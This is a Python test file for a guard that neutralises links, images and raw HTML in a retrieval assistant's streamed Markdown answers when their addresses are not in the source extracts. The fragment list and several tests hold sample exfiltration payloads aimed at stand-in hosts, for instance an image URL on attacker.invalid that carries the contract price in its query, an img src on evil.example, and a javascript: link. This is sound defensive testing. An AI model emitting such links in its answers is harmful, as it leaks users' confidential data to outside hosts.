"""Links and images of a model's answer (:mod:`ancre.query.links`), checked against a CommonMark
parser (markdown-it-py with GFM tables and linkify-it-py, as Open WebUI's ``marked`` renders
answers): whatever the answer and however it is cut into streamed pieces, what the client holds
after each piece addresses nothing outside the extracts, the guard's ``text`` is what it released,
and an answer with no construct to neutralise is left exactly as written, streamed or not."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ancre.query.links import LinkGuard, inert, neutralise

EXTRACTS = (
    "Le portail client est https://portail.axonix.ch/contrats ; le support répond à support@axonix.ch. "
    "Forfait mensuel : CHF 4 200 HT."
)
ALLOWED = ("https://portail.axonix.ch/contrats", "mailto:support@axonix.ch")

_MD = MarkdownIt("commonmark", {"linkify": True}).enable(["linkify", "table", "strikethrough"])
_TAG_WITH_ATTRIBUTE = re.compile(r"<[A-Za-z][A-Za-z0-9-]*\s[^>]*=")
"""A raw HTML start tag with an attribute (``src=``, ``href=``, ``style=``, ``onerror=``…)."""


def rendered_addresses(markdown: str) -> list[str]:
    """What a renderer would fetch or link to: image sources, link targets (inline, reference,
    autolink, bare URL, e-mail), and raw HTML tags with attributes (as themselves)."""
    out: list[str] = []
    for tok in _MD.parse(markdown):
        if tok.type == "html_block" and _TAG_WITH_ATTRIBUTE.search(tok.content):
            out.append(tok.content)
        for c in tok.children or ():
            if c.type == "image":
                out.append(str(c.attrs["src"]))
            elif c.type == "link_open":
                out.append(str(c.attrs["href"]))
            elif c.type == "html_inline" and _TAG_WITH_ATTRIBUTE.search(c.content):
                out.append(c.content)
    return out


def unsafe(markdown: str) -> list[str]:
    return [a for a in rendered_addresses(markdown) if a not in ALLOWED and a.replace("http://", "https://", 1) not in ALLOWED]


FRAGMENTS = st.sampled_from([
    "Le forfait mensuel est de CHF 4 200 HT", " [21_Contrat_Maintenance_Baumont_Industries.docx]", ". ", " ",
    "\n", "\n\n", "![x](http://attacker.invalid/c?d=4200)", "[ici](https://attacker.invalid/p)",
    "[portail](https://portail.axonix.ch/contrats)", "<http://attacker.invalid/a>", "<img src=http://evil.example/i.png>",
    "<br>", "https://attacker.invalid/bare?d=1", "https://portail.axonix.ch/contrats", "www.evil.example/x",
    "evil@attacker.example", "support@axonix.ch", "[ref]", "[ref]: http://attacker.invalid/r\n", "`code [a](http://e.example)`",
    "`", "![", "](", ")", "[", "]", "<", ">", "(", "| a | b |\n|---|---|\n| ![i](http://e.example/x) | c |\n",
    "> ", "- ", "1. ", "**gras**", "\\", "![y][ref]", "[a]\n(http://attacker.invalid/n)", "//evil.example/x",
    "[lien](javascript:alert(1))", "http", "://", "www.", "@", ".example", "``", "```\n", "<!-- c -->",
    "![a](<http://e.example/x y>)", "[t](http://e.example/x \"titre)\")", "&#91;a](http://e.example)", "![data](data:image/png;base64,AAAA)", "<div style=\"x\">\n![z](http://e.example/z)\n</div>\n",
])


@settings(max_examples=400, deadline=None)
@given(st.lists(FRAGMENTS, min_size=1, max_size=14).map("".join), st.data())
def test_streamed_answer_never_addresses_what_the_extracts_do_not(answer: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(answer)), max_size=12, unique=True)))
    pieces = [answer[a:b] for a, b in zip([0, *cuts], [*cuts, len(answer)], strict=True)]
    guard = LinkGuard(EXTRACTS)
    client = ""
    for piece in pieces:
        client += guard.feed(piece)
        assert not unsafe(client), (pieces, client)  # what the client renders at every step
    client += guard.flush()
    assert not unsafe(client), (pieces, client)
    assert client == guard.text and guard.source == answer
    whole = neutralise(answer, EXTRACTS)
    assert not unsafe(whole.text)
    assert bool(whole.addresses) == (whole.text != answer)
    if not guard.addresses:
        assert client == answer == whole.text


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("abcdéè Le forfait,.;:!?'0123456789\n*_-")), max_size=200))
def test_plain_text_is_left_as_written(text: str) -> None:
    if rendered_addresses(text):
        return  # linkify found something address-like: not plain text
    assert neutralise(text, EXTRACTS).text == text


def test_the_attack_of_the_issue_is_shown_as_text_and_recorded() -> None:
    answer = ("Le forfait mensuel s'élève à CHF 4 200 HT [21_Contrat.docx].\n\n"
              "![x](http://attacker.invalid/c?d=CHF%204%20200)\n\nVoir aussi le [portail](https://portail.axonix.ch/contrats).")
    out = neutralise(answer, EXTRACTS)
    assert rendered_addresses(out.text) == ["https://portail.axonix.ch/contrats"]
    assert out.addresses == ("http://attacker.invalid/c?d=CHF%204%20200",)
    assert "hxxp://attacker[.]invalid/c?d=CHF%204%20200" in out.text.replace("\\", "")
    assert out.text.startswith("Le forfait mensuel s'élève à CHF 4 200 HT [21_Contrat.docx].")  # the citation kept


def test_inert_text_renders_as_itself_without_addresses() -> None:
    text = "![x](https://attacker.invalid/a) <b onclick=1> www.evil.example evil@attacker.example [r]: //x.example"
    out = inert(text)
    assert rendered_addresses(out) == []
    assert _MD.renderInline(out).count("attacker[.]invalid") == 1


def test_a_code_span_over_lines_that_a_block_breaks_does_not_shelter_raw_html() -> None:
    """Found by the property test above (CI, stop 30): ``</div>`` on a line of its own starts an
    HTML block, so the backticks opened two lines earlier close nothing; the guard had released
    ``<img `` as if it were code and could no longer make ``src=…`` inert."""
    answer = ('``<div style="x">\n![z](http://e.example/z)\n</div>\n<img src=http://evil.example/i.png>``'
              "![x](http://attacker.invalid/c?d=4200)")
    guard = LinkGuard(EXTRACTS)
    client = guard.feed(answer)
    assert not unsafe(client)
    client += guard.flush()
    assert not unsafe(client), client
    assert "http://evil.example/i.png" in guard.addresses


def test_a_plain_bracket_inside_a_word_does_not_release_the_start_of_a_bare_address() -> None:
    """Found by the property test above: after a plain ``[ref]`` the guard released up to that
    ``]`` — the middle of the word — so ``https://portail.axonix.ch/contrats[ref`` (an address of
    the extracts) went out as it was, and the ``]Le`` that followed turned it into
    ``…/contrats[ref]Le``, an address the extracts don't have, in text already sent."""
    answer = "https://portail.axonix.ch/contrats[ref]Le forfait mensuel est de CHF 4 200 HT"
    guard = LinkGuard(EXTRACTS)
    client = guard.feed(answer)
    assert not unsafe(client), client
    client += guard.flush()
    assert not unsafe(client), client
    assert guard.addresses


def test_a_code_span_is_never_released_in_two_parts() -> None:
    """Found by the property test above (CI, stop 35): a ``<`` right after a code span's closing
    backticks held the word from its start — inside the code span — so the opening backticks went
    out alone; the next release's first backticks then closed that span, and ``<img …>``, which
    the guard had read as code between two runs of backticks, was live HTML in the client."""
    pieces = ["``Le forfait mensuel est de CHF 4 200 HT``<",
              "img src=http://evil.example/i.png>``![x](http://attacker.invalid/c?d=4200)"]
    guard = LinkGuard(EXTRACTS)
    client = ""
    for piece in pieces:
        client += guard.feed(piece)
        assert client.count("``") % 2 == 0, client  # the released text never ends inside a code span
        assert not unsafe(client), client
    client += guard.flush()
    assert not unsafe(client), client
    assert "http://evil.example/i.png" in guard.addresses
